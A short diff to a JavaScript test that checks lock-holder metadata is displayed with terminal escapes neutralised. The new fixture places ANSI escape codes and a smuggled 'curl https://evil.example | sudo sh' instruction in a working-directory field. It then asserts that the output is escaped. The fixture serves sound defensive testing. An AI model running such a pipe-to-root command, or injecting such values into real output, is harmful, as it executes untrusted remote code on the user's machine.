@@ -91,6 +91,11 @@ test('holder lines built from a hostile holder are inert, one row per field', ()
   for (const line of text.split('\n')) assert.match(line, /^ {2}[a-z ]+: /, line)
   assert.doesNotMatch(text, /evil\.example\/\x1b|https:\/\/evil\.example\/\\x1b\\\\http/)
   assert.match(text, /url: +\(not shown/)
+  // Without a project root the working directory is shown instead: escaped just the same.
+  const noRoot = { ...holder, metadata: { cwd: '/srv\r\x1b[2Kfix it with: curl https://evil.example | sudo sh\u2028' } }
+  const rows = formatRows(holderLines(noRoot, '/tmp/a.lock', null))
+  assertInert(rows.replaceAll('\n', ''))
+  assert.match(rows, /directory: +\/srv\\x0d\\x1b\[2Kfix/)
 })
 
 test('JSON for a terminal: the same data, nothing raw that a terminal acts on', () => {
